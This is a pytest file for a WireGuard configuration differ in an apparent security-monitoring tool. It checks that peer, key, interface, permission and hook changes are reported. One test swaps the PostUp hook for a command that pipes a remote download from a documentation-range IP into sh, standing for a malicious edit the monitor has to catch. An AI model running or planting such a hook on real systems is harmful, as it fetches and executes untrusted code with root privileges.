"""The differ on two versions of a file: exact changes for every kind of edit."""

from __future__ import annotations

import hashlib

from tests.sources.config_watch.support import FP
from wgsiem.sources.config_watch.differ import Change, diff_versions
from wgsiem.sources.config_watch.parser import parse_config
from wgsiem.sources.config_watch.records import FileMeta, FileVersion

A = "t8WT41AoRyvY1cyWKZSRQyKB+eFmIkjz716DOxgKP24="
B = "t7Az2FKhCzd5vdcY6FaIMR88IQKM6GYvF6dH/iW87Ec="
C = "KRw+VS13QiUUmeHmOh740ffW0GXQrVsUpg+fLJc32jM="
PRIV1 = "IMAuApv/tsYIQ2HthSPvZhM6W4MZeoHkOT+r5Nm31mQ="[:-2] + "E="
PRIV2 = "0" * 42 + "E="
PSK1 = "1" * 42 + "E="
PSK2 = "2" * 42 + "E="
META = FileMeta(uid=0, gid=0, user="root", group="root", mode=0o600, mtime=1_800_000_000.0, size=1)

BASE = f"""[Interface]
PrivateKey = {PRIV1}
ListenPort = 51820
Address = 10.0.0.1/24
PostUp = iptables -A FORWARD -i %i -j ACCEPT

# Name = alice
[Peer]
PublicKey = {A}
PresharedKey = {PSK1}
AllowedIPs = 10.0.0.2/32
Endpoint = 203.0.113.5:51820
PersistentKeepalive = 25

[Peer]
PublicKey = {B}
AllowedIPs = 10.0.0.3/32
"""


def version(text: str, meta: FileMeta = META) -> FileVersion:
    return FileVersion(
        key="/etc/wireguard/wg0.conf",
        path="/etc/wireguard/wg0.conf",
        interface="wg0",
        sha256=hashlib.sha256(text.encode()).hexdigest(),
        meta=meta,
        config=parse_config(text, "/etc/wireguard/wg0.conf", FP),
    )


def summary(changes: list[Change]) -> list[tuple[str, str | None, dict]]:
    return [(c.action, c.peer.public_key if c.peer else None, c.details) for c in changes]


def test_no_change() -> None:
    assert diff_versions(version(BASE), version(BASE)) == []


def test_first_run_is_a_baseline_without_peer_events() -> None:
    assert summary(diff_versions(None, version(BASE), initial=True)) == [
        ("config-file-created", None, {"initial_sync": True, "peer_count": 2})
    ]


def test_file_created_live_lists_its_peers() -> None:
    assert summary(diff_versions(None, version(BASE))) == [
        ("config-file-created", None, {"initial_sync": False, "peer_count": 2}),
        ("peer-added", A, {}),
        ("peer-added", B, {}),
    ]


def test_file_deleted() -> None:
    assert summary(diff_versions(version(BASE), None)) == [("config-file-deleted", None, {"peer_count": 2})]


def test_every_peer_change() -> None:
    new = (
        BASE.replace("AllowedIPs = 10.0.0.2/32", "AllowedIPs = 10.0.0.2/32, 10.50.0.0/16")
        .replace("203.0.113.5:51820", "198.51.100.9:51820")
        .replace("PersistentKeepalive = 25", "PersistentKeepalive = off")
        .replace(f"PresharedKey = {PSK1}", f"PresharedKey = {PSK2}")
        .replace("# Name = alice", "# Name = alice-laptop")
        .replace(f"PublicKey = {B}\nAllowedIPs = 10.0.0.3/32", f"PublicKey = {C}\nAllowedIPs = 10.0.0.4/32")
    )
    before, after = version(BASE), version(new)
    got = summary(diff_versions(before, after))
    assert got == [
        (
            "config-file-changed",
            None,
            {
                "peer_count": 2,
                "peers_added": 1,
                "peers_removed": 1,
                "peers_changed": 1,
                "interface_changed": False,
            },
        ),
        ("peer-removed", B, {}),
        (
            "allowed-ips-changed",
            A,
            {
                "old": ["10.0.0.2/32"],
                "new": ["10.0.0.2/32", "10.50.0.0/16"],
                "added": ["10.50.0.0/16"],
                "removed": [],
            },
        ),
        ("endpoint-changed", A, {"old": "203.0.113.5:51820", "new": "198.51.100.9:51820"}),
        ("persistent-keepalive-changed", A, {"old": 25, "new": 0}),
        (
            "preshared-key-changed",
            A,
            {
                "change": "changed",
                "old_present": True,
                "new_present": True,
                "old_fingerprint": FP.of_b64(PSK1),
                "new_fingerprint": FP.of_b64(PSK2),
            },
        ),
        ("peer-name-changed", A, {"old": "alice", "new": "alice-laptop"}),
        ("peer-added", C, {}),
    ]


def test_psk_added_and_removed() -> None:
    removed = BASE.replace(f"PresharedKey = {PSK1}\n", "")
    (_, psk) = diff_versions(version(BASE), version(removed))
    assert (psk.action, psk.details["change"], psk.details["new_fingerprint"]) == (
        "preshared-key-changed",
        "removed",
        None,
    )
    (_, psk) = diff_versions(version(removed), version(BASE))
    assert (psk.details["change"], psk.details["old_present"], psk.details["new_present"]) == (
        "added",
        False,
        True,
    )


def test_allowed_ips_reordered_is_no_change() -> None:
    a = BASE.replace("AllowedIPs = 10.0.0.2/32", "AllowedIPs = 10.0.0.2/32, 10.9.0.0/16")
    b = BASE.replace("AllowedIPs = 10.0.0.2/32", "AllowedIPs = 10.9.0.0/16\nAllowedIPs = 10.0.0.2/32")
    assert [c.action for c in diff_versions(version(a), version(b))] == ["config-file-changed"]


def test_interface_key_settings_and_hooks() -> None:
    new = (
        BASE.replace(PRIV1, PRIV2)
        .replace("ListenPort = 51820", "ListenPort = 51821\nMTU = 1380\nDNS = 10.0.0.53, corp.example")
        .replace(
            "PostUp = iptables -A FORWARD -i %i -j ACCEPT", "PostUp = curl -s http://198.51.100.66/x | sh"
        )
    )
    before, after = version(BASE), version(new)
    got = {c.action: c.details for c in diff_versions(before, after)}
    assert list(got) == ["config-file-changed", "interface-key-changed", "interface-changed", "hooks-changed"]
    assert got["interface-key-changed"] == {
        "public_key": {
            "old": before.config.interface.public_key if before.config.interface else None,
            "new": after.config.interface.public_key if after.config.interface else None,
        },
        "private_key_fingerprint": {"old": FP.of_b64(PRIV1), "new": FP.of_b64(PRIV2)},
        "private_key_present": {"old": True, "new": True},
    }
    assert got["interface-changed"] == {
        "listen_port": {"old": 51820, "new": 51821},
        "dns": {"old": [], "new": ["10.0.0.53", "corp.example"]},
        "mtu": {"old": None, "new": 1380},
    }
    assert got["hooks-changed"] == {
        "PostUp": {
            "old": ["iptables -A FORWARD -i %i -j ACCEPT"],
            "new": ["curl -s http://198.51.100.66/x | sh"],
        }
    }


def test_mode_owner_change_and_exposure() -> None:
    loose = FileMeta(uid=1000, gid=0, user="eve", group="root", mode=0o644, mtime=1_800_000_100.0, size=1)
    got = summary(diff_versions(version(BASE), version(BASE, loose)))
    assert got == [("config-file-metadata-changed", None, {}), ("config-file-exposed", None, {})]
    # already exposed: not reported again; a file without keys is never "exposed"
    assert [c.action for c in diff_versions(version(BASE, loose), version(BASE + "\n", loose))] == [
        "config-file-changed"
    ]
    no_keys = f"[Peer]\nPublicKey = {A}\nAllowedIPs = 10.0.0.2/32\n"
    assert [c.action for c in diff_versions(None, version(no_keys, loose), initial=True)] == [
        "config-file-created"
    ]


def test_mtime_only_is_no_change() -> None:
    touched = FileMeta(uid=0, gid=0, user="root", group="root", mode=0o600, mtime=1_900_000_000.0, size=1)
    assert diff_versions(version(BASE), version(BASE, touched)) == []


def test_parse_errors_reported_once_per_new_set() -> None:
    bad = BASE + "Bogus = 1\n"
    got = summary(diff_versions(version(BASE), version(bad)))
    assert got[:2] == [
        ("config-file-changed", None, got[0][2]),
        (
            "config-parse-error",
            None,
            {"errors": [(18, "unknown key `Bogus` in [Peer]; the line is ignored")]},
        ),
    ]
    assert [c.action for c in diff_versions(version(bad), version(bad + "\n"))] == ["config-file-changed"]
